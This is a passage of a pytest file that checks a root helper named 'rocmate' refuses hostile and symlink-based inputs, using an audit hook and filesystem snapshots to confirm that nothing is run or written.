    shutil.copy(Path(__file__).with_name("audit_run.py"), root / "opt/rocmate/audit_run.py")


@pytest.fixture(scope="module")
def hostile_root(
    debian_root: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Path]:
    with copy_root(debian_root, tmp_path_factory.mktemp("hostile") / "copy") as root:
        _prepared_root(root)
        add_system_files(root)
        yield root


@pytest.fixture(scope="module")
def linked_root(
    debian_root: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Path]:
    with copy_root(debian_root, tmp_path_factory.mktemp("linked") / "copy") as root:
        _prepared_root(root)
        _plant_links(root)
        yield root


def _assert_runs_nothing(case: Case, root: Path) -> None:
    """``--check`` and a real run (under the audit hook) refuse ``case``: nothing is attempted,
    nothing changes."""
    before = snapshot(root, WATCHED)
    check = run_helper(root, case.payload, "--check")
    assert check.code == 2, check.stdout + check.stderr
    answer = json.loads(check.stdout)
    assert answer["ok"] is False
    assert case.reason in "\n".join(r["reason"] for r in answer["refused"])

    log = root / "tmp/audit.log"
    log.unlink(missing_ok=True)
    run = run_helper(root, case.payload,
                     python_args=("-I", "-B", "/opt/rocmate/audit_run.py", "/tmp/audit.log"))
    assert run.code == 2, run.stdout + run.stderr
    assert [e["event"] for e in run.events] == ["refused", "done"]
    assert run.events[-1]["ok"] is False and case.reason in run.events[-1]["error"]
    assert log.read_text() == "", "the helper tried to run or write something"
    assert not (root / SENTINEL).exists()
    assert snapshot(root, WATCHED) == before


@pytest.mark.root
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input_runs_nothing(case: Case, hostile_root: Path) -> None:
    _assert_runs_nothing(case, hostile_root)


@pytest.mark.root
@pytest.mark.parametrize("case", LINKED_CASES, ids=[c.name for c in LINKED_CASES])
def test_links_at_rocmate_names_run_nothing(case: Case, linked_root: Path) -> None:
    _assert_runs_nothing(case, linked_root)


@pytest.mark.root
def test_the_audit_hook_would_see_a_write(hostile_root: Path) -> None:
    """The control for the test above: an accepted plan does try to write, the hook records
    and blocks it, so an empty record really means "nothing was attempted"."""
    root = hostile_root
    log = root / "tmp/audit.log"
    log.unlink(missing_ok=True)
    run = run_helper(root, plan(pin_step()),
                     python_args=("-I", "-B", "/opt/rocmate/audit_run.py", "/tmp/audit.log"))
    assert run.code == 1, run.stdout + run.stderr
    assert "open" in log.read_text()
    assert not (root / "etc/apt/preferences.d/rocm-pin-600").exists()
